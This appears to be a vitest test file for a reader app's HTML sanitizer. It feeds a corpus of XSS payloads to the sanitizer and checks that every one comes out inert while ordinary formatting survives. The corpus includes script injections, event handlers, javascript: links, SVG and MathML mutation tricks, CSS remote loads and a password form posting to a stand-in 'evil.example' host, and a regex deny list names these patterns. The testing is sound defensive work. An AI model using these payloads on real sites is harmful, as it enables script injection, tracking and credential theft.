// @vitest-environment happy-dom
/**
 * The reader's sanitizer against hostile HTML (issue 5): nothing executable or remote
 * survives, ordinary formatting does. Runs the real DOMPurify on happy-dom (with the
 * standard nodeName getter restored: happy-dom-fix.ts).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { sanitizeHtml, sanitizerWorks } from '../../src/reader/sanitize';
import { buildSrcdoc, SRCDOC_CSP } from '../../src/reader/srcdoc';
import { disableHappyDomLoading, fixNodeIterator, fixNodeNameGetter } from './happy-dom-fix';

beforeAll(() => {
  disableHappyDomLoading(window);
  fixNodeNameGetter(window as Window & typeof globalThis);
  fixNodeIterator(window as Window & typeof globalThis);
});

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** Each payload, with a short name; every one must come out inert. */
const HOSTILE: [string, string][] = [
  ['script', '<p>a</p><script>alert(1)</script>'],
  ['script src', '<script src="https://evil.example/x.js"></script>'],
  ['img onerror', '<img src=x onerror="alert(1)">'],
  ['svg onload', '<svg onload="alert(1)"><circle r="4"/></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg use href', '<svg><use href="https://evil.example/s.svg#a"/></svg>'],
  [
    'svg animate',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  ],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['mathml href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript link entities', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript link spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data html link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data html iframe', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  [
    'form',
    '<form action="https://evil.example/steal"><input name="p" type="password"><button>Go</button></form>',
  ],
  ['formaction', '<button formaction="https://evil.example/">x</button>'],
  ['style import', '<style>@import url("https://evil.example/x.css");</style><p>t</p>'],
  ['style tag body', '<style>body{background:url(https://evil.example/t.png)}</style>'],
  ['css url', '<p style="background:url(https://evil.example/t.png)">t</p>'],
  ['css url escaped', '<p style="background:u\\72l(https://evil.example/t.png)">t</p>'],
  ['css image-set', '<p style="background-image:image-set(\'https://evil.example/t.png\' 1x)">t</p>'],
  ['css expression', '<p style="width:expression(alert(1))">t</p>'],
  ['css binding', '<p style="-moz-binding:url(https://evil.example/x.xml#x)">t</p>'],
  ['remote img', '<img src="https://evil.example/pixel.gif">'],
  ['protocol relative img', '<img src="//evil.example/pixel.gif">'],
  ['srcset', `<img src="${PIXEL}" srcset="https://evil.example/a.png 2x">`],
  ['picture source', '<picture><source srcset="https://evil.example/a.png"><img src="x"></picture>'],
  ['base', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['link prefetch', '<link rel="prefetch" href="https://evil.example/x">'],
  ['table background', '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>'],
  ['video poster', '<video poster="https://evil.example/p.png"></video>'],
  ['audio', '<audio src="https://evil.example/a.mp3" autoplay></audio>'],
  ['a ping', '<a href="https://example.com/" ping="https://evil.example/track">x</a>'],
  ['body onload', '<body onload="alert(1)">x</body>'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>s</summary></details>'],
  ['noscript trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['svg data img', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['html data img', '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['relative link', '<a href="/options.html">x</a>'],
  ['clobbering', '<form id="x"><input name="attributes"></form><img name="getElementById">'],
  ['xlink', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['area', '<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,1,1"></map>'],
  ['dialog', '<dialog open><p>fake unlock</p></dialog>'],
  ['target override', '<a href="https://example.com/" target="_top" rel="opener">x</a>'],
  ['portal', '<portal src="https://evil.example/"></portal>'],
  ['comment breakout', '<!--><img src=x onerror=alert(1)>-->'],
  ['cdata', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['uppercase', '<SCRIPT>alert(1)</SCRIPT><IMG SRC=x ONERROR=alert(1)>'],
];

/** What must never appear in sanitized output. */
const FORBIDDEN: RegExp[] = [
  /<script/i,
  /<style/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<base/i,
  /<meta/i,
  /<link/i,
  /<svg/i,
  /<math/i,
  /<source/i,
  /<video/i,
  /<audio/i,
  /<portal/i,
  /<template/i,
  /<dialog/i,
  /<area/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:text/i,
  /data:image\/svg/i,
  /evil\.example/i,
  /url\s*\(/i,
  /srcset/i,
  /\sping=/i,
  /background=/i,
  /poster=/i,
  /formaction/i,
  /target="_top"/i,
  /rel="opener"/i,
  /href="\/options/i,
  /\sname=/i,
];

/** Every attribute in the parsed output, for checks a regex could miss. */
function attributes(html: string): { tag: string; name: string; value: string }[] {
  const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  return Array.from(doc.body.querySelectorAll('*')).flatMap((el) =>
    Array.from(el.attributes).map((a) => ({ tag: el.tagName.toLowerCase(), name: a.name, value: a.value })),
  );
}

describe('sanitizeHtml: hostile corpus', () => {
  // A sanitizer that failed closed would pass every case below by returning ''.
  it('is working in this DOM (else every case would pass trivially)', () => {
    expect(sanitizerWorks()).toBe(true);
    expect(sanitizeHtml('<p>a</p><script>alert(1)</script>')).toBe('<p>a</p>');
  });

  for (const [name, payload] of HOSTILE) {
    it(`defuses ${name}`, () => {
      const out = sanitizeHtml(payload);
      expect(sanitizeHtml(out), `${name}: stable`).toBe(out);
      for (const bad of FORBIDDEN) expect(out, `${name}: ${bad}`).not.toMatch(bad);
      for (const a of attributes(out)) {
        expect(a.name, `${name}: event handler`).not.toMatch(/^on/i);
        if (a.name === 'src')
          expect(a.value, `${name}: src`).toMatch(/^(data:image\/(png|gif|jpeg);base64,|blob:)/);
        if (a.name === 'href') expect(a.value, `${name}: href`).toMatch(/^(https?:\/\/|mailto:)/);
        if (a.name === 'style') expect(a.value, `${name}: style`).not.toMatch(/url|import|expression|\\/i);
      }
    });
  }
});

describe('sanitizeHtml: safe formatting survives', () => {
  it('keeps text formatting, lists, tables and quotes', () => {
    const html =
      '<p>Hello <b>bold</b> <strong>strong</strong> <i>it</i> <em>em</em> <u>u</u> <s>s</s></p>' +
      '<ul><li>one</li><li>two</li></ul><ol><li>x</li></ol>' +
      '<blockquote>quoted</blockquote><h2>Title</h2><br><hr>' +
      '<table><tbody><tr><td>cell</td></tr></tbody></table><pre>code</pre><code>c</code>';
    const out = sanitizeHtml(html);
    for (const tag of [
      'b',
      'strong',
      'i',
      'em',
      'u',
      's',
      'ul',
      'li',
      'ol',
      'blockquote',
      'h2',
      'table',
      'td',
      'pre',
      'code',
    ])
      expect(out, tag).toContain(`<${tag}>`);
    expect(out).toContain('<br>');
    expect(out).toContain('Hello');
  });

  it('keeps harmless inline styles', () => {
    const out = sanitizeHtml('<p style="color: red; font-weight: bold">t</p>');
    expect(out).toContain('style="color: red; font-weight: bold"');
  });

  it('keeps data: images of raster types', () => {
    const out = sanitizeHtml(`<img src="${PIXEL}" alt="dot">`);
    expect(out).toContain(`src="${PIXEL}"`);
    expect(out).toContain('alt="dot"');
  });

  it('keeps http(s) and mailto links, opening in a new tab without opener or referrer', () => {
    for (const href of ['https://example.com/a?b=1', 'http://example.com/', 'mailto:bob@example.com']) {
      const out = sanitizeHtml(`<a href="${href}">x</a>`);
      const [a] = attributes(out).filter((x) => x.name === 'href');
      expect(a?.value).toBe(href);
      expect(out).toContain('target="_blank"');
      expect(out).toContain('rel="noopener noreferrer"');
    }
  });

  it('removes a link target of its own but keeps the text of a dropped link', () => {
    const out = sanitizeHtml('<a href="javascript:alert(1)">click me</a>');
    expect(out).toContain('click me');
    expect(out).not.toContain('href');
    expect(out).not.toContain('target');
  });

  it('drops the content of forbidden containers, not only the tags', () => {
    expect(sanitizeHtml('<style>p{color:red}</style>')).toBe('');
    expect(sanitizeHtml('<script>var secret = 1</script>')).toBe('');
  });
});

describe('srcdoc', () => {
  it('starts with the CSP meta allowing only data:/blob: images and inline styles', () => {
    expect(SRCDOC_CSP).toBe("default-src 'none'; img-src data: blob:; style-src 'unsafe-inline'");
    const doc = buildSrcdoc('<p>x</p>');
    expect(doc.startsWith(`<meta http-equiv="Content-Security-Policy" content="${SRCDOC_CSP}">`)).toBe(true);
    expect(doc).toContain('<body><p>x</p></body>');
  });

  it('keeps the CSP first when parsed, before any content', () => {
    const parsed = new DOMParser().parseFromString(buildSrcdoc('<p>x</p>'), 'text/html');
    // The first element that is not html/head/body (happy-dom puts head content in body).
    const first = Array.from(parsed.querySelectorAll('*')).find(
      (e) => !['HTML', 'HEAD', 'BODY'].includes(e.tagName),
    );
    expect(first?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
    expect(first?.getAttribute('content')).toBe(SRCDOC_CSP);
  });
});
